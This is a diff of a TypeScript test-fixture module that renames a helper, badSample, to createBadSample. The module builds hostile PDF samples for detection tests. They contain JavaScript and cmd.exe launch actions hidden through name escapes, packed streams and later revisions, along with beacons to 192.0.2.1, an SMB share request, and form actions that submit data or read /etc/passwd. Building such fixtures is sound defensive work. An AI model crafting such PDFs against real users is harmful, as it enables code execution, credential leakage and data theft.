@@ -6,63 +6,63 @@ import {
   onePageObjects,
 } from './pdf-pages'
 import { appendUpdate, packObjects } from './pdf-shapes'
-import { badSample, encodeLatin1, type SampleFile } from './sample'
+import { createBadSample, encodeLatin1, type SampleFile } from './sample'
 
 const scriptAction = '<< /S /JavaScript /JS (app.alert(1)) >>'
 const launchAction = '<< /S /Launch /F (cmd.exe) >>'
 
 export const pdfScriptSamples: SampleFile[] = [
-  badSample('script', 'script.pdf', 'a script on opening', () =>
+  createBadSample('script', 'script.pdf', 'a script on opening', () =>
     createPdf({}, `/OpenAction ${scriptAction}`),
   ),
-  badSample('script', 'names.pdf', 'a script among the names', () =>
+  createBadSample('script', 'names.pdf', 'a script among the names', () =>
     createPdf({ 6: '<< /Names [(a) 7 0 R] >>', 7: scriptAction }, '/Names << /JavaScript 6 0 R >>'),
   ),
-  badSample('script', 'link.pdf', 'a script on a link', createPdfWithLink(scriptAction)),
-  badSample('script', 'form.pdf', 'a script in a form', () =>
+  createBadSample('script', 'link.pdf', 'a script on a link', createPdfWithLink(scriptAction)),
+  createBadSample('script', 'form.pdf', 'a script in a form', () =>
     createPdf({ ...formObjects, 6: `<< /FT /Tx /T (a) /AA << /K ${scriptAction} >> >>` }),
   ),
-  badSample(
+  createBadSample(
     'script',
     'escaped.pdf',
     'its name written with escapes',
     createPdfWithLink('<< /S /J#61va#53cript /#4a#53 (app.alert\\(1\\)) >>'),
   ),
-  badSample('script', 'packed.pdf', 'packed away', () =>
+  createBadSample('script', 'packed.pdf', 'packed away', () =>
     packObjects({ ...onePageObjects, 1: createCatalog(`/OpenAction ${scriptAction}`) }),
   ),
-  badSample('script', 'packed-escaped.pdf', 'packed away with escapes', () =>
+  createBadSample('script', 'packed-escaped.pdf', 'packed away with escapes', () =>
     packObjects({ ...onePageObjects, 6: '<< /S /#4aavaScript >>' }),
   ),
-  badSample('script', 'typeless.pdf', 'packed away in a stream whose type is hidden', () =>
+  createBadSample('script', 'typeless.pdf', 'packed away in a stream whose type is hidden', () =>
     packObjects({ ...onePageObjects, 6: scriptAction }, { type: '' }),
   ),
-  badSample('script', 'packed-update.pdf', 'packed away as a later version', () =>
+  createBadSample('script', 'packed-update.pdf', 'packed away as a later version', () =>
     Buffer.concat([createPdf(), packObjects({ 9: scriptAction }).subarray(15)]),
   ),
-  badSample('script', 'before.pdf', 'in a version that was replaced', () =>
+  createBadSample('script', 'before.pdf', 'in a version that was replaced', () =>
     appendUpdate(createPdf({ 6: scriptAction }), { 6: 'null' }),
   ),
-  badSample('script', 'update.pdf', 'in a version behind', () =>
+  createBadSample('script', 'update.pdf', 'in a version behind', () =>
     appendUpdate(createPdf(), { 1: createCatalog(`/OpenAction ${scriptAction}`) }),
   ),
-  badSample('script', 'inside.pdf', 'inside of the bytes of a picture', () =>
+  createBadSample('script', 'inside.pdf', 'inside of the bytes of a picture', () =>
     createPdf({
       6: { dict: '/Subtype /Image', bytes: encodeLatin1(`x\n9 0 obj\n${scriptAction}\nendobj\n`) },
     }),
   ),
-  badSample('script', 'unclosed.pdf', 'behind a text that never ends', () =>
+  createBadSample('script', 'unclosed.pdf', 'behind a text that never ends', () =>
     createPdf({ 6: '(never closed', 7: scriptAction }),
   ),
-  badSample('script', 'comment.pdf', 'behind a comment between the words of an object', () =>
+  createBadSample('script', 'comment.pdf', 'behind a comment between the words of an object', () =>
     encodeLatin1(
       createPdf({ 6: scriptAction }).toString('latin1').replace('6 0 obj\n', '6 0 %\nobj\n'),
     ),
   ),
-  badSample('script', 'broken.pdf', 'in an object that breaks off', () =>
+  createBadSample('script', 'broken.pdf', 'in an object that breaks off', () =>
     createPdf({ 6: '<< /A << /B [ 1 2 /S /JavaScript' }),
   ),
-  badSample(
+  createBadSample(
     'script',
     'uri.pdf',
     'a link that is a script',
@@ -71,48 +71,48 @@ export const pdfScriptSamples: SampleFile[] = [
 ]
 
 export const pdfActionSamples: SampleFile[] = [
-  badSample('launch', 'launch.pdf', 'a program to start', () =>
+  createBadSample('launch', 'launch.pdf', 'a program to start', () =>
     createPdf({}, `/OpenAction ${launchAction}`),
   ),
-  badSample(
+  createBadSample(
     'launch',
     'launch-link.pdf',
     'a program to start, on a link',
     createPdfWithLink(launchAction),
   ),
-  badSample('launch', 'launch-packed.pdf', 'a program to start, packed away', () =>
+  createBadSample('launch', 'launch-packed.pdf', 'a program to start, packed away', () =>
     packObjects({ ...onePageObjects, 6: launchAction }),
   ),
-  badSample('opening', 'beacon.pdf', 'a page fetched on opening', () =>
+  createBadSample('opening', 'beacon.pdf', 'a page fetched on opening', () =>
     createPdf({}, '/OpenAction << /S /URI /URI (http://192.0.2.1/) >>'),
   ),
-  badSample('opening', 'beacon-ref.pdf', 'a page fetched on opening, by reference', () =>
+  createBadSample('opening', 'beacon-ref.pdf', 'a page fetched on opening, by reference', () =>
     createPdf({ 6: '<< /S /URI /URI (http://192.0.2.1/) >>' }, '/OpenAction 6 0 R'),
   ),
-  badSample('opening', 'chain.pdf', 'a share asked on opening, in a chain', () =>
+  createBadSample('opening', 'chain.pdf', 'a share asked on opening, in a chain', () =>
     createPdf(
       {},
       '/OpenAction << /S /GoTo /D [3 0 R] /Next << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a) >> >>',
     ),
   ),
-  badSample('opening', 'pages.pdf', 'a page fetched whenever a page is shown', () =>
+  createBadSample('opening', 'pages.pdf', 'a page fetched whenever a page is shown', () =>
     createPdf({
       3: '<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (http://192.0.2.1/) >> >> >>',
     }),
   ),
-  badSample(
+  createBadSample(
     'sends',
     'submit.pdf',
     'a form that sends',
     createPdfWithLink('<< /S /SubmitForm /F (http://192.0.2.1/) >>'),
   ),
-  badSample(
+  createBadSample(
     'sends',
     'import.pdf',
     'a form that reads files',
     createPdfWithLink('<< /S /ImportData /F (/etc/passwd) >>'),
   ),
-  badSample('form', 'xfa.pdf', 'a dynamic form', () =>
+  createBadSample('form', 'xfa.pdf', 'a dynamic form', () =>
     createPdf({ 6: { dict: '', bytes: encodeLatin1('<xdp:xdp/>') } }, '/AcroForm << /XFA 6 0 R >>'),
   ),
 ]
